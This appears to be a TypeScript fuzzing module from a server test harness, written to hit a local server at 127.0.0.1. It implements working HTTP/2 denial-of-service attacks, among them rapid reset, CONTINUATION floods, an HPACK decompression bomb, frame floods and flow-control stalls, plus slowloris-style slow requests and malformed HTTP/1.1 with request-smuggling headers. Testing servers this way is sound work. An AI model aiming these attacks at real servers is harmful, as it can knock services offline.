/**
 * Attacks below the HTTP layer. Each attack writes bytes directly to a TLS connection, and ends
 * automatically, regardless of what the server does.
 */
import { once } from 'node:events'
import { connect as connectPlain, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { connect, type TLSSocket } from 'node:tls'
import type { Random } from '../simulation/random.ts'
import { many, NAMESPACE, noise } from './requests.ts'

export type Attack = {
  readonly name: string
  /** Runs the attack. Returns the number of requests that it started. */
  readonly run: (port: number, random: Random) => Promise<number>
}

/** Time for which an attack keeps its connections open. */
const HOLD_MS = 1500

async function open(port: number, protocol: 'h2' | 'http/1.1'): Promise<TLSSocket> {
  const socket = connect({
    port,
    host: '127.0.0.1',
    rejectUnauthorized: false,
    ALPNProtocols: [protocol],
  })
  socket.on('error', () => undefined)
  socket.resume()
  await Promise.race([once(socket, 'secureConnect').catch(() => undefined), closed(socket)])
  return socket
}

const closed = (socket: Socket): Promise<unknown> =>
  new Promise((resolve) => socket.once('close', resolve))

async function send(socket: TLSSocket, bytes: Buffer | string): Promise<void> {
  if (socket.destroyed) return
  const isTaken = socket.write(bytes)
  if (!isTaken) await Promise.race([once(socket, 'drain').catch(() => undefined), sleep(HOLD_MS)])
}

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
const FRAME = {
  data: 0,
  headers: 1,
  priority: 2,
  reset: 3,
  settings: 4,
  ping: 6,
  goaway: 7,
  window: 8,
  continuation: 9,
} as const
const END_STREAM = 1
const END_HEADERS = 4

function frame(
  type: number,
  flags: number,
  stream: number,
  payload: Buffer = Buffer.alloc(0),
): Buffer {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}

/**
 * Encodes a header field in HPACK without compression. Name and value have at most 126 characters
 * each.
 */
const literal = (name: string, value: string): Buffer =>
  Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ])

/** Encodes a header block with :method GET, :scheme https, and the given fields. */
const headersOf = (path: string, ...more: readonly Buffer[]): Buffer =>
  Buffer.concat([
    Buffer.from([0x82, 0x87]),
    literal(':path', path),
    literal(':authority', 'x'),
    token,
    ...more,
  ])
const token = literal('authorization', 'Bearer admin-token')

const settings = (id: number, value: number): Buffer => {
  const payload = Buffer.alloc(6)
  payload.writeUInt16BE(id, 0)
  payload.writeUInt32BE(value, 2)
  return frame(FRAME.settings, 0, 0, payload)
}

const number32 = (value: number): Buffer => {
  const bytes = Buffer.alloc(4)
  bytes.writeUInt32BE(value >>> 0)
  return bytes
}

/** Writes frames until all are sent or the server has closed the connection. */
async function flood(port: number, frames: Iterable<Buffer>): Promise<void> {
  const socket = await open(port, 'h2')
  await send(socket, Buffer.concat([preface, frame(FRAME.settings, 0, 0)]))
  let batch: Buffer[] = []
  for (const one of frames) {
    if (socket.destroyed) break
    batch.push(one)
    if (batch.length < 50) continue
    await send(socket, Buffer.concat(batch))
    batch = []
  }
  await send(socket, Buffer.concat(batch))
  await Promise.race([closed(socket), sleep(HOLD_MS)])
  socket.destroy()
}

function* times(count: number, make: (at: number) => Buffer): Generator<Buffer, void, void> {
  for (let at = 0; at < count; at++) yield make(at)
}

const list = `/api/v1/namespaces/${NAMESPACE}/configmaps`
const streamOf = (at: number): number => 1 + 2 * at

const frameFlood = (
  name: string,
  count: number,
  make: (at: number, random: Random) => Buffer,
  requests = 0,
): Attack => ({
  name,
  run: async (port, random) => {
    await flood(
      port,
      times(count, (at) => make(at, random)),
    )
    return requests
  },
})

const RESETS = 3000

export const attacks: readonly Attack[] = [
  frameFlood(
    'rapid reset',
    RESETS,
    (at) =>
      Buffer.concat([
        frame(FRAME.headers, END_STREAM | END_HEADERS, streamOf(at), headersOf(list)),
        frame(FRAME.reset, 0, streamOf(at), number32(8)),
      ]),
    RESETS,
  ),
  frameFlood('endless headers', 2000, (at) =>
    at === 0
      ? frame(FRAME.headers, END_STREAM, 1, headersOf('/'))
      : frame(FRAME.continuation, 0, 1, literal(`x-${at}`, 'y'.repeat(100))),
  ),
  frameFlood('headers that grow when unpacked', 200, (at) => {
    // Adds one field to HPACK's dynamic table, and then refers to this field thousands of times
    // with one byte each.
    const entry = Buffer.concat([
      Buffer.from([0x40, 1]),
      Buffer.from('x'),
      Buffer.from([127, 0x81, 0x1e]),
      Buffer.alloc(4000, 0x61),
    ])
    return frame(
      FRAME.headers,
      END_STREAM | END_HEADERS,
      streamOf(at),
      headersOf('/', entry, Buffer.alloc(8000, 0xbe)),
    )
  }),
  frameFlood('settings', 5000, () => settings(4, 65_535)),
  frameFlood('pings', 5000, () => frame(FRAME.ping, 0, 0, Buffer.alloc(8))),
  frameFlood('priorities', 5000, (at) =>
    frame(FRAME.priority, 0, streamOf(at % 100), Buffer.from([0, 0, 0, 0, 1])),
  ),
  frameFlood('window updates', 5000, (at) =>
    frame(FRAME.window, 0, 0, number32(at % 7 === 0 ? 0x7fffffff : 1)),
  ),
  frameFlood('window updates of nothing', 10, () => frame(FRAME.window, 0, 0, number32(0))),
  frameFlood('empty data', 5000, (at) =>
    at === 0
      ? frame(
          FRAME.headers,
          END_HEADERS,
          1,
          Buffer.concat([Buffer.from([0x83, 0x87]), literal(':path', list), token]),
        )
      : frame(FRAME.data, 0, 1),
  ),
  frameFlood('frames of no kind', 500, (_, random) =>
    frame(
      random.between(0, 255),
      random.between(0, 255),
      random.between(0, 50),
      noise(random, random.between(0, 60)),
    ),
  ),
  frameFlood('headers that are none', 200, (at, random) =>
    frame(
      FRAME.headers,
      END_STREAM | END_HEADERS,
      streamOf(at),
      noise(random, random.between(0, 200)),
    ),
  ),
  frameFlood(
    'windows that stay shut',
    101,
    (at) =>
      at === 0
        ? settings(4, 0)
        : frame(FRAME.headers, END_STREAM | END_HEADERS, streamOf(at), headersOf(list)),
    100,
  ),
  frameFlood(
    'windows of one byte',
    101,
    (at) =>
      at === 0
        ? settings(4, 1)
        : frame(FRAME.headers, END_STREAM | END_HEADERS, streamOf(at), headersOf(list)),
    100,
  ),
  frameFlood(
    'more streams than agreed',
    1000,
    (at) => frame(FRAME.headers, END_HEADERS, streamOf(at), headersOf(list)),
    1000,
  ),
  { name: 'noise instead of HTTP/2', run: noiseAfterPreface },
  { name: 'HTTP/1.1 that is none', run: brokenHttp1 },
  { name: 'a slow body', run: slowBody },
  { name: 'slow headers', run: slowHeaders },
  { name: 'noise instead of TLS', run: noTls },
]

async function noiseAfterPreface(port: number, random: Random): Promise<number> {
  const socket = await open(port, 'h2')
  await send(
    socket,
    Buffer.concat(random.chance(0.5) ? [preface, noise(random, 2000)] : [noise(random, 2000)]),
  )
  await Promise.race([closed(socket), sleep(HOLD_MS)])
  socket.destroy()
  return 1
}

const lines = [
  'GET / HTTP/1.1',
  'GET  / HTTP/1.1',
  'GET /\0 HTTP/1.1',
  'GET / HTTP/9.9',
  'get / http/1.1',
  '',
  'GET',
  'CONNECT x:1 HTTP/1.1',
  'OPTIONS * HTTP/1.1',
  'GET http://x/ HTTP/1.1',
  `GET /${'x'.repeat(100_000)} HTTP/1.1`,
  `POST ${list} HTTP/1.1`,
  'PRI * HTTP/2.0',
] as const

const heads = [
  'host: x',
  'host: x\r\nhost: y',
  'host:',
  ': x',
  'x',
  'x y: z',
  'content-length: 5',
  'content-length: -1',
  'content-length: 5\r\ncontent-length: 6',
  'content-length: 99999999999999999999',
  'transfer-encoding: chunked',
  'transfer-encoding: chunked\r\ncontent-length: 3',
  'transfer-encoding: x',
  'connection: upgrade\r\nupgrade: websocket',
  'connection: upgrade\r\nupgrade: h2c',
  'expect: 100-continue',
  'authorization: Bearer admin-token',
  `x: ${'y'.repeat(50_000)}`,
  'x: \0',
  ' folded',
] as const

const tails = [
  '',
  '\r\n',
  '5\r\nhello\r\n0\r\n\r\n',
  'zz\r\n',
  '-1\r\n',
  'ffffffffff\r\n',
  'GET / HTTP/1.1\r\n\r\n',
  '{}',
  '\0',
] as const

async function brokenHttp1(port: number, random: Random): Promise<number> {
  const socket = await open(port, 'http/1.1')
  const parts = many(
    random,
    1,
    10,
    () =>
      `${random.pick(lines)}\r\n${many(random, 0, 5, () => random.pick(heads)).join('\r\n')}\r\n\r\n${random.pick(tails)}`,
  )
  await send(socket, parts.join(''))
  await Promise.race([closed(socket), sleep(100)])
  socket.destroy()
  return parts.length
}

/** Sends a few bytes of a body from time to time, over HTTP/1.1 and HTTP/2. */
async function slowBody(port: number): Promise<number> {
  const [one, two] = await Promise.all([open(port, 'http/1.1'), open(port, 'h2')])
  const fields = Buffer.concat([
    Buffer.from([0x83, 0x87]),
    literal(':path', list),
    token,
    literal('content-type', 'application/json'),
  ])
  const head = `POST ${list} HTTP/1.1\r\nhost: x\r\nauthorization: Bearer admin-token\r\ncontent-length: 1000\r\n\r\n`
  await Promise.all([
    send(one, head),
    send(
      two,
      Buffer.concat([
        preface,
        frame(FRAME.settings, 0, 0),
        frame(FRAME.headers, END_HEADERS, 1, fields),
      ]),
    ),
  ])
  for (let round = 0; round < 10; round++) {
    await Promise.all([
      send(one, '{'),
      send(two, frame(FRAME.data, 0, 1, Buffer.from('{'))),
      sleep(HOLD_MS / 10),
    ])
  }
  one.destroy()
  two.destroy()
  return 2
}

async function slowHeaders(port: number): Promise<number> {
  const socket = await open(port, 'http/1.1')
  for (const letter of 'GET / HTTP/1.1\r\nx') {
    await send(socket, letter)
    await sleep(HOLD_MS / 20)
  }
  socket.destroy()
  return 1
}

async function noTls(port: number, random: Random): Promise<number> {
  const socket = connectPlain(port, '127.0.0.1')
  socket.on('error', () => undefined)
  socket.write(
    random.chance(0.5)
      ? noise(random, 500)
      : Buffer.concat([Buffer.from([22, 3, 1, 2, 0]), noise(random, 300)]),
  )
  await Promise.race([closed(socket), sleep(200)])
  socket.destroy()
  return 1
}
